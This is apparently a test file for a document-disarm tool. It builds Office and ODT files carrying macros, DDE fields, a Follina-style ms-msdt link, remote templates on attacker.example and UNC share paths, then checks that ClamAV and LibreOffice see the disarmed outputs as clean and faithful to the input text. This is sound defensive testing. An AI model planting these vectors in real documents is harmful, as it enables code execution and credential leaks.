/**
 * Independent readers agree with the Office and ODT rebuild: ClamAV (its OLE2 macro heuristic and
 * a signature database written here for the active features it has no heuristic for) flags every
 * active input and no output, and headless LibreOffice converts every output, with the same
 * text as the input.
 */
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

import {
  ACTIVE_CONTENT_SIGNATURES,
  clamscanVerdicts,
  buildEmf,
  buildImage,
  buildOdt,
  buildOfficeDocument,
  buildWordBinary,
  withZip64End,
  convertWithLibreOffice,
} from '@disarm/fixtures';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';

import { disarm } from '../src/disarm.ts';
import { scaledMs } from '@disarm/fixtures/time-budget';

// These tests run for minutes on a busy machine: one hang guard for the file, scaled by the
// machine's load when it starts, so that load makes them slower, never red.
vi.setConfig({ testTimeout: scaledMs(600_000) });

const REPO = resolve(import.meta.dirname, '..', '..', '..');

/** Objects that LibreOffice shows by their preview picture only once rebuilt. */
const PREVIEWS = new Set(['ole-preview.docx', 'ole-replacement.odt', 'ole-preview-slide.pptx']);

/** Inputs with nothing active in them, there for fidelity: the rest must be flagged. */
const BENIGN = new Set(['pivot.xlsx', 'lo-pivot.xlsx', 'ooo31.odt', 'ooo32.odt', 'doctype.docx']);

let dir: string;
const cases: { name: string; input: Uint8Array; output: Uint8Array }[] = [];

beforeAll(async () => {
  execFileSync('bash', [join(REPO, 'scripts', 'ensure-system-deps.sh')], { stdio: 'ignore' });
  dir = await mkdtemp(join(tmpdir(), 'office-independent-'));
  await writeFile(join(dir, 'disarm.ndb'), ACTIVE_CONTENT_SIGNATURES);
  await writeFile(
    join(dir, 'metafile.ndb'),
    ACTIVE_CONTENT_SIGNATURES.split('\n')
      .filter((line) => line.startsWith('Disarm.Metafile.'))
      .join('\n'),
  );
  const png = await buildImage('png', { width: 24, height: 24 });
  const texts = ['Quarterly numbers are up', 'Second paragraph'];
  // A pivot table's heading and items, its source column.
  const pivotTexts = ['Quarterly numbers are up', 'North', 'South', 'North'];
  const inputs: [string, Uint8Array][] = [
    ['vba.docm', await buildOfficeDocument('docm', { texts, vba: true })],
    ['dde-field.docx', await buildOfficeDocument('docx', { texts, dde: true })],
    ['fetch.docx', await buildOfficeDocument('docx', { texts, fetchingFields: true })],
    ['button.dotx', await buildOfficeDocument('dotx', { texts, macroButton: true })],
    [
      'follina.docx',
      await buildOfficeDocument('docx', {
        texts,
        attachedTemplate: 'http://attacker.example/t.dotm',
        externalOle: 'mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html',
        hyperlinks: ['ms-msdt:/id PCWDiagnostic'],
      }),
    ],
    ['ole.docx', await buildOfficeDocument('docx', { texts, oleObject: true, image: png })],
    [
      // The object's preview as Word writes it, an EMF that names a colour profile on a share.
      'ole-preview.docx',
      await buildOfficeDocument('docx', {
        texts,
        oleObject: true,
        olePreview: {
          kind: 'emf',
          bytes: buildEmf({ emfPlus: 'dual', iccProfile: '\\\\attacker.example\\share\\x.icc' }),
        },
      }),
    ],
    ['vba-book.xlsm', await buildOfficeDocument('xlsm', { texts, vba: true })],
    ['xlm-book.xlsm', await buildOfficeDocument('xlsm', { texts, macroSheet: true })],
    ['dde-formula.xlsx', await buildOfficeDocument('xlsx', { texts, dde: true })],
    ['rule-formulas.xlsx', await buildOfficeDocument('xlsx', { texts, ruleFormulas: true })],
    ['link-formulas.xlsx', await buildOfficeDocument('xlsx', { texts, linkFormulas: true })],
    ['pivot.xlsx', await buildOfficeDocument('xlsx', { texts: pivotTexts, pivot: 'worksheet' })],
    [
      'pivot-query.xlsx',
      await buildOfficeDocument('xlsx', { texts: pivotTexts, pivot: 'connection' }),
    ],
    [
      'pivot-share.xlsx',
      await buildOfficeDocument('xlsx', { texts: pivotTexts, pivot: 'other-workbook' }),
    ],
    ['vba-deck.pptm', await buildOfficeDocument('pptm', { texts, vba: true })],
    [
      // The same object on a slide, as PowerPoint 2010 and later write it.
      'ole-preview-slide.pptx',
      await buildOfficeDocument('pptx', {
        texts,
        oleObject: true,
        olePreview: {
          kind: 'emf',
          bytes: buildEmf({ emfPlus: 'dual', iccProfile: '\\\\attacker.example\\share\\x.icc' }),
        },
      }),
    ],
    ['action.pptx', await buildOfficeDocument('pptx', { texts, macroAction: true })],
    [
      'ole-show.ppsx',
      await buildOfficeDocument('ppsx', { texts, externalOle: 'https://attacker.example/x' }),
    ],
    // As OpenOffice.org 3.0-3.1 and 3.2 wrote them: ODF 1.1 and 1.2, the manifest declaring
    // the DOCTYPE OpenOffice.org wrote.
    ['ooo31.odt', await buildOdt({ texts, odfVersion: '1.1', manifestDoctype: true })],
    ['ooo32.odt', await buildOdt({ texts, odfVersion: '1.2', manifestDoctype: true })],
    [
      'doctype.docx',
      await buildOfficeDocument('docx', {
        texts,
        doctype: '<!DOCTYPE w:document SYSTEM "word.dtd">',
      }),
    ],
    ['basic.odt', await buildOdt({ texts, basic: true, scripts: true, image: png })],
    // Word 97-2003 files as LibreOffice exports them, given a VBA project and a template in code.
    ['vba-97.doc', await buildWordBinary({ texts, vba: true })],
    ['dde-field-97.doc', await buildWordBinary({ texts, dde: true })],
    ['fetch-97.doc', await buildWordBinary({ texts, fetchingFields: true })],
    [
      'template-97.dot',
      await buildWordBinary({ texts, dot: true, template: '\\\\attacker.example\\t.dotm' }),
    ],
    ['settings.odt', await buildOdt({ texts, settings: true })],
    ['chart.odt', await buildOdt({ texts, chart: true })],
    ['forms.odt', await buildOdt({ texts, forms: true })],
    [
      // The same object as LibreOffice keeps it, the preview as its replacement image.
      'ole-replacement.odt',
      await buildOdt({
        texts,
        olePreview: {
          kind: 'emf',
          bytes: buildEmf({ emfPlus: 'dual', iccProfile: '\\\\attacker.example\\share\\x.icc' }),
        },
      }),
    ],
  ];
  // The same active content as LibreOffice writes it on conversion: a Word field it has no
  // field of its own for becomes a fieldmark holding the instruction (and comes back as that
  // field when the file is saved as Word again); an .xls auto-run name becomes `_xlnm_Auto_Open`.
  const written = join(dir, 'libreoffice');
  await mkdir(written, { recursive: true });
  const byName = new Map(inputs);
  for (const name of ['dde-field.docx', 'fetch.docx', 'xlm-book.xlsm', 'pivot.xlsx']) {
    await writeFile(join(written, name), byName.get(name) ?? new Uint8Array());
  }
  const convert = (format: string, files: string[]): void => {
    libreOfficeConvert(
      format,
      written,
      files.map((file) => join(written, file)),
    );
  };
  convert('odt', ['dde-field.docx', 'fetch.docx']);
  convert('xls', ['xlm-book.xlsm']);
  convert('xlsx', ['xlm-book.xls']);
  // LibreOffice writes a pivot table (its DataPilot) its own way: no records part, a cache it
  // fills from the sheet.
  convert('ods', ['pivot.xlsx']);
  convert('xlsx', ['pivot.ods']);
  inputs.push(
    ['lo-dde-field.odt', await readFile(join(written, 'dde-field.odt'))],
    ['lo-fetch.odt', await readFile(join(written, 'fetch.odt'))],
    ['lo-xlm-book.xlsx', await readFile(join(written, 'xlm-book.xlsx'))],
    ['lo-pivot.xlsx', await readFile(join(written, 'pivot.xlsx'))],
  );
  for (const [name, input] of inputs) {
    const outcome = await disarm({ bytes: input, fileName: name });
    if (outcome.status !== 'cleaned')
      throw new Error(`${name}: ${outcome.reason} ${outcome.detail}`);
    cases.push({ name, input, output: outcome.bytes });
    await mkdir(join(dir, 'in'), { recursive: true });
    await mkdir(join(dir, 'out'), { recursive: true });
    await writeFile(join(dir, 'in', name), input);
    await writeFile(join(dir, 'out', name), outcome.bytes);
  }
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** Headless LibreOffice converting `files` to `format` into `out`, with this test's profile. */
function libreOfficeConvert(format: string, out: string, files: readonly string[]): void {
  convertWithLibreOffice({ to: format, outDir: out, files, profileDir: join(dir, 'profile') });
}

/** LibreOffice's text of every file in `folder`, converted in one headless run. */
async function libreOfficeText(folder: string): Promise<Record<string, string>> {
  const pdfs = join(folder, 'pdf');
  expect(new Set(cases.map((c) => c.name.replace(/\.[^.]+$/, ''))).size).toBe(cases.length);
  libreOfficeConvert(
    'pdf',
    pdfs,
    cases.map((c) => join(folder, c.name)),
  );
  const texts: Record<string, string> = {};
  for (const { name } of cases) {
    const pdf = join(pdfs, `${name.slice(0, name.lastIndexOf('.'))}.pdf`);
    await readFile(pdf);
    texts[name] = execFileSync('pdftotext', [pdf, '-'], { encoding: 'utf8' })
      .replace(/\s+/g, ' ')
      .trim();
  }
  return texts;
}

/** The Word file LibreOffice saves `folder/name` as, its document part as text. */
function savedAsWord(folder: string, name: string): string {
  const out = join(folder, 'docx');
  libreOfficeConvert('docx', out, [join(folder, name)]);
  const docx = join(out, name.replace(/\.[^.]+$/, '.docx'));
  return execFileSync('unzip', ['-p', docx, 'word/document.xml'], { encoding: 'utf8' });
}

describe('Office and ODT outputs, as independent readers see them', () => {
  it('LibreOffice applies the same layout settings from a rebuilt ODT as from its input', () => {
    // LibreOffice writes the settings it applied when it saves the document again.
    const applied = (folder: string): Record<string, string | undefined> => {
      const out = join(folder, 'resaved');
      libreOfficeConvert('odt', out, [join(folder, 'settings.odt')]);
      const settings = execFileSync('unzip', ['-p', join(out, 'settings.odt'), 'settings.xml'], {
        encoding: 'utf8',
      });
      const item = (name: string): string | undefined =>
        new RegExp(`config:name="${name}" config:type="[a-z]+">([^<]*)<`).exec(settings)?.[1];
      return Object.fromEntries(
        ['TabOverMargin', 'AddExternalLeading', 'PrinterIndependentLayout'].map((name) => [
          name,
          item(name),
        ]),
      );
    };
    const before = applied(join(dir, 'in'));
    // Away from LibreOffice's defaults (false, true), so equal values were read, not defaulted.
    expect(before).toMatchObject({ TabOverMargin: 'true', AddExternalLeading: 'false' });
    expect(applied(join(dir, 'out'))).toEqual(before);
  });

  it('LibreOffice writes no active field back when it saves a rebuilt ODT as Word', () => {
    for (const [name, field] of [
      ['lo-dde-field.odt', 'DDEAUTO'],
      ['lo-fetch.odt', 'INCLUDETEXT'],
    ] as const) {
      expect(savedAsWord(join(dir, 'in'), name), `input ${name}`).toContain(field);
      const rebuilt = savedAsWord(join(dir, 'out'), name);
      expect(rebuilt, `output ${name}`).not.toContain(field);
      expect(rebuilt, `output ${name}`).toContain('Quarterly numbers are up');
    }
  });

  it('keeps the pivot tables Excel and LibreOffice write when their caches read the workbook', () => {
    for (const name of ['pivot.xlsx', 'lo-pivot.xlsx']) {
      const members = execFileSync('unzip', ['-Z1', join(dir, 'out', name)], { encoding: 'utf8' });
      expect(members, name).toMatch(/^xl\/pivotTables\/pivotTable1\.xml$/m);
      expect(members, name).toMatch(/^xl\/pivotCache\/pivotCacheDefinition1\.xml$/m);
    }
  });

  it('LibreOffice opens a package rebuilt from one whose zip end is in ZIP64 format', async () => {
    // LibreOffice 7.4 opens no package with a ZIP64 end record; the rebuilt one is a plain zip.
    const folder = join(dir, 'zip64');
    await mkdir(folder, { recursive: true });
    const texts = ['Quarterly numbers are up', 'Second paragraph'];
    const inputs = {
      'word.docx': await buildOfficeDocument('docx', { texts }),
      'word-zip64.docx': withZip64End(await buildOfficeDocument('docx', { texts })),
      'text.odt': await buildOdt({ texts }),
      'text-zip64.odt': withZip64End(await buildOdt({ texts })),
    };
    for (const [name, input] of Object.entries(inputs)) {
      const outcome = await disarm({ bytes: input, fileName: name });
      if (outcome.status !== 'cleaned') throw new Error(`${name}: ${outcome.reason}`);
      await writeFile(join(folder, name), outcome.bytes);
    }
    libreOfficeConvert(
      'pdf',
      folder,
      Object.keys(inputs).map((name) => join(folder, name)),
    );
    const text = (name: string): string =>
      execFileSync('pdftotext', [join(folder, name.replace(/\.[^.]+$/, '.pdf')), '-'], {
        encoding: 'utf8',
      })
        .replace(/\s+/g, ' ')
        .trim();
    for (const name of ['word.docx', 'text.odt']) {
      const zip64 = name.replace('.', '-zip64.');
      expect(text(zip64), zip64).toBe(text(name));
      expect(text(zip64), zip64).toBe('Quarterly numbers are up Second paragraph');
    }
  });

  it('ClamAV flags every active input and no output', () => {
    const inputs = clamscanVerdicts(join(dir, 'in'), join(dir, 'disarm.ndb'));
    const outputs = clamscanVerdicts(join(dir, 'out'), join(dir, 'disarm.ndb'));
    for (const { name } of cases) {
      if (!BENIGN.has(name)) {
        expect(inputs[name], `input ${name}`).toMatch(
          /^(Heuristics\.OLE2\.ContainsMacros|Disarm\.)/,
        );
      }
      expect(outputs[name], `output ${name}`).toBe('OK');
    }
    for (const name of BENIGN) expect(inputs[name], `input ${name}`).toBe('OK');
    expect(inputs['vba.docm']).toMatch(/^Heuristics\.OLE2\.ContainsMacros/);
    expect(inputs['vba-97.doc']).toMatch(/^Heuristics\.OLE2\.ContainsMacros/);
    // The preview picture is kept; the record naming a profile on a share is not.
    const metafileIn = clamscanVerdicts(join(dir, 'in'), join(dir, 'metafile.ndb'));
    const metafileOut = clamscanVerdicts(join(dir, 'out'), join(dir, 'metafile.ndb'));
    for (const [name, preview] of [
      ['ole-preview.docx', /^word\/media\/oleObject1\.emf$/m],
      ['ole-replacement.odt', /^ObjectReplacements\/Object 3$/m],
      ['ole-preview-slide.pptx', /^ppt\/media\/image1\.emf$/m],
    ] as const) {
      expect(metafileIn[name], name).toBe('Disarm.Metafile.ShareProfile.UNOFFICIAL');
      expect(metafileOut[name], name).toBe('OK');
      const members = execFileSync('unzip', ['-Z1', join(dir, 'out', name)], { encoding: 'utf8' });
      expect(members, name).toMatch(preview);
    }
  });

  it('LibreOffice converts every output, and its text is the input text', async () => {
    const before = await libreOfficeText(join(dir, 'in'));
    const after = await libreOfficeText(join(dir, 'out'));
    for (const { name } of cases) {
      expect(after[name], name).toContain('Quarterly numbers are up');
      // LibreOffice recalculates the DDE formula of the input on load (Err:509); the rebuilt
      // cell has no formula left and shows the value Excel cached for it.
      // LibreOffice draws an input's pivot table itself, from its cache and in its own words;
      // the cache that read a workbook on a share is gone from the rebuilt one with its table,
      // which shows the cells Excel wrote for the table: the same items and counts, Excel's labels.
      // LibreOffice has no IMAGE function and recalculates the input's to #NAME?; the rebuilt
      // cell has no formula left and shows the error Excel cached for it.
      const expected =
        name === 'dde-formula.xlsx'
          ? before[name]?.replace('Err:509', '0')
          : name === 'link-formulas.xlsx'
            ? before[name]?.replace('#NAME?', '#VALUE!')
            : name === 'pivot-share.xlsx'
              ? before[name]
                  ?.replace('QuarterlyCount', 'Row LabelCount')
                  .replace('Total Res', 'Grand Tot')
              : before[name];
      if (PREVIEWS.has(name)) {
        // LibreOffice cannot load the input's object and draws nothing for it; the rebuilt
        // document shows the object's preview picture instead, whose caption is drawn as text
        // (letter-spaced) where the object stands: that text, and nothing else, is added.
        const squeezed = (text: string | undefined): string => (text ?? '-').replace(/\s/g, '');
        expect(squeezed(after[name]), name).toContain('Quarterlyreport.xlsx');
        expect(squeezed(after[name]).replace('Quarterlyreport.xlsx', ''), name).toBe(
          squeezed(expected),
        );
        continue;
      }
      expect(after[name], name).toBe(expected);
    }
  });
});
